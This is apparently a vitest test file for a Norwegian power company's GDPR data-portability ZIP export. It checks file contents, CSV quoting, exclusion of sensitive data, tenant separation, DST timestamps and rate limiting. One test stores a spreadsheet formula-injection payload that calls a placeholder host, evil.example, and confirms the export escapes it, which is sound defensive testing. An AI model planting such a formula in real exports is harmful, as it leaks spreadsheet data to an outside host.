import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { consumptionCsv } from "@/features/consumption/domain/export";
import { parseView } from "@/features/consumption/domain/view";
import { getConsumption } from "@/features/consumption/server/consumption";
import { ownerOf } from "@/features/privacy/server/customer-data";
import { EXPORT_RULE, startExport } from "@/features/privacy/server/exports";
import { portabilityZip } from "@/features/privacy/server/portability";
import { db } from "@/platform/db";
import { createCustomerEverywhere } from "../support/customer-everywhere";
import {
  createContract,
  createCustomer,
  createMeteringPoint,
  createSupplyPeriod,
} from "../support/factories";

async function zipOf(customerId: string) {
  const owner = await ownerOf(customerId);
  if (!owner) throw new Error("no owner");
  const chunks: Uint8Array[] = [];
  for await (const chunk of portabilityZip(owner, new Date("2026-03-01T12:00:00Z"))) chunks.push(chunk);
  const bytes = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const chunk of chunks) {
    bytes.set(chunk, at);
    at += chunk.length;
  }
  const files = unzipSync(bytes);
  // Keep the byte-order mark, so that the tests see it.
  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
  return Object.fromEntries(Object.entries(files).map(([name, data]) => [name, decoder.decode(data)]));
}

describe("data portability", () => {
  it("P26: a ZIP of JSON and CSV of what the customer gave and the contract generated", async () => {
    const { customerId, identity } = await createCustomerEverywhere();
    const files = await zipOf(customerId);
    for (const name of [
      "kunde",
      "malepunkter",
      "avtaler",
      "forbruk",
      "fakturaer",
      "fakturalinjer",
      "purringer",
      "innbetalinger",
      "henvendelser",
      "meldinger",
      "samtykker",
    ]) {
      expect(files[`${name}.json`], name).toBeDefined();
      expect(files[`${name}.csv`], name).toBeDefined();
    }
    expect(files["LESMEG.txt"]).toContain("ISO 8601");
    // End dates are exclusive in the schema, and the file says so.
    expect(files["LESMEG.txt"]).toContain("endDate 2026-02-01 betyr at avtalen gjaldt til og med 31. januar");
    expect(JSON.parse(files["kunde.json"] ?? "")).toEqual([
      expect.objectContaining({ email: identity.email }),
    ]);
    // Consumption: ISO 8601 with offset, per metering point, exact decimals.
    const readings = JSON.parse(files["forbruk.json"] ?? "") as Record<string, string>[];
    expect(readings).toHaveLength(3);
    expect(readings[0]).toMatchObject({
      intervalStart: "2026-01-01T01:00:00.000+01:00",
      kwh: "1.25",
      resolution: "PT1H",
    });
    const csv = (files["forbruk.csv"] ?? "").split("\r\n");
    expect(csv[0]).toBe("\uFEFFgsrn,intervalStart,resolution,kwh,quality");
    expect(csv[1]).toMatch(/^\d{18},2026-01-01T01:00:00\.000\+01:00,PT1H,1\.25,REVISED$/);
    // A message with a comma is quoted in CSV.
    expect(files["meldinger.csv"]).toContain(`"Hilsen ${identity.firstName}, ring ${identity.phone}"`);
  });

  it("P26: the invoices come with their lines, reminders and payments, each tied to its invoice", async () => {
    const { customerId } = await createCustomerEverywhere();
    const files = await zipOf(customerId);
    const parse = (name: string) => JSON.parse(files[`${name}.json`] ?? "null") as Record<string, unknown>[];
    const invoices = parse("fakturaer");
    const invoice = invoices.find((row) => row.kind === "INVOICE");
    expect(invoice).toMatchObject({ periodStart: "2026-01-01", dueDate: "2026-02-20", amountOre: 123_456 });
    expect(invoices.find((row) => row.kind === "CREDIT_NOTE")).toMatchObject({
      creditsInvoiceId: invoice?.id,
      amountOre: -123_456,
    });
    expect(parse("fakturalinjer")).toEqual([
      expect.objectContaining({
        invoiceId: invoice?.id,
        position: 1,
        quantity: "1234.5678",
        unit: "kWh",
        netOre: 93_865,
      }),
      expect.objectContaining({ invoiceId: invoice?.id, position: 2, netOre: 4_900 }),
    ]);
    expect(parse("purringer")).toEqual([
      expect.objectContaining({ invoiceId: invoice?.id, sequence: 1, feeOre: 3_500, dueDate: "2026-03-21" }),
    ]);
    expect(parse("innbetalinger")).toEqual([
      { invoiceId: invoice?.id, paidOn: "2026-03-10", amountOre: 50_000, kid: invoice?.kid },
    ]);
    expect((files["innbetalinger.csv"] ?? "").split("\r\n")[0]).toBe("\uFEFFinvoiceId,paidOn,amountOre,kid");
  });

  it("P26: a subject that a spreadsheet would run as a formula is written as text in henvendelser.csv", async () => {
    const customer = await createCustomer();
    const subject = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")';
    await db.inquiry.create({ data: { customerId: customer.id, subject } });
    const csv = (await zipOf(customer.id))["henvendelser.csv"] ?? "";
    const row = csv.split("\r\n")[1] ?? "";
    // An apostrophe before the "=", and the quotes inside doubled (RFC 4180).
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klikk"")",`);
    expect(row).not.toMatch(/,"?=/);
  });

  it("P26: never includes what we hold only by law or for security: no national ID, no password hash, no audit log", async () => {
    const { customerId, identity } = await createCustomerEverywhere();
    const all = Object.values(await zipOf(customerId)).join("\n");
    expect(all).not.toContain(identity.nationalId);
    expect(all).not.toMatch(/\$argon2/);
    expect(all).not.toContain("customer.view");
  });

  it("P26: holds the customer's own readings only: none of a previous tenant's, and theirs on a point they moved away from", async () => {
    const before = await createCustomer();
    const after = await createCustomer();
    // The point now belongs to the tenant who moved in on 2026-01-15.
    const point = await createMeteringPoint(after.id);
    await createSupplyPeriod(before.id, point.id, "2025-06-01", "2026-01-15");
    await createSupplyPeriod(after.id, point.id, "2026-01-15");
    const hourly = (iso: string) => ({
      meteringPointId: point.id,
      intervalStart: new Date(iso),
      resolution: "PT1H" as const,
      kwh: "1.5",
    });
    // 2026-01-14 23:00Z is the first hour of the 15th in Oslo: the new tenant's.
    await db.consumptionReading.createMany({
      data: [hourly("2026-01-14T22:00:00Z"), hourly("2026-01-14T23:00:00Z"), hourly("2026-01-20T10:00:00Z")],
    });

    const starts = async (customerId: string) =>
      (JSON.parse((await zipOf(customerId))["forbruk.json"] ?? "") as { intervalStart: string }[]).map(
        (r) => r.intervalStart,
      );
    expect(await starts(after.id)).toEqual([
      "2026-01-15T00:00:00.000+01:00",
      "2026-01-20T11:00:00.000+01:00",
    ]);
    expect(await starts(before.id)).toEqual(["2026-01-14T23:00:00.000+01:00"]);
  });
});

describe("timestamps", () => {
  it("the Forbruk download and the ZIP write the same instant the same way, across the spring DST change", async () => {
    const customer = await createCustomer();
    const point = await createMeteringPoint(customer.id);
    await createContract(customer.id, point.id);
    await createSupplyPeriod(customer.id, point.id, "2026-03-01");
    // 29 March 2026 in Oslo: 01:00 +01:00 is followed by 03:00 +02:00.
    const hours = ["2026-03-29T00:00:00Z", "2026-03-29T01:00:00Z"];
    await db.consumptionReading.createMany({
      data: hours.map((iso) => ({
        meteringPointId: point.id,
        intervalStart: new Date(iso),
        resolution: "PT1H" as const,
        kwh: "1.5",
      })),
    });

    const zipLines = ((await zipOf(customer.id))["forbruk.csv"] ?? "").split("\r\n");
    const zipStarts = zipLines.slice(1, 3).map((line) => line.split(",")[1]);
    const parsed = parseView({ periode: "dag", dato: "2026-03-29", opplosning: "time" }, "2026-03-30");
    if (!parsed.ok) throw new Error(parsed.message);
    const data = await getConsumption(customer.id, parsed.view, point.gsrn, new Date("2026-03-30T12:00:00Z"));
    if (!data) throw new Error("no consumption");
    const forbrukLines = consumptionCsv(data.buckets, data.view).split("\r\n");
    const forbrukStarts = forbrukLines.slice(1).map((line) => line.split(";")[0]);

    expect(zipStarts).toEqual(["2026-03-29T01:00:00.000+01:00", "2026-03-29T03:00:00.000+02:00"]);
    expect(forbrukStarts).toEqual(expect.arrayContaining(zipStarts));
  });
});

describe("starting an export", () => {
  it("is audited and rate-limited per customer", async () => {
    const { customerId, userId } = await createCustomerEverywhere();
    const now = new Date("2026-03-01T12:00:00Z");
    for (let i = 0; i < EXPORT_RULE.limit; i++) {
      expect((await startExport({ userId, customerId }, "portability", now)).ok).toBe(true);
    }
    expect(await startExport({ userId, customerId }, "access-json", now)).toEqual({
      ok: false,
      reason: "too-many",
    });
    expect(
      await db.auditLog.count({
        where: { subjectCustomerId: customerId, action: "privacy.export.portability" },
      }),
    ).toBe(EXPORT_RULE.limit);
    // An hour later the window has passed.
    expect(
      (
        await startExport(
          { userId, customerId },
          "access-json",
          new Date(now.getTime() + EXPORT_RULE.windowMs),
        )
      ).ok,
    ).toBe(true);
  });
});
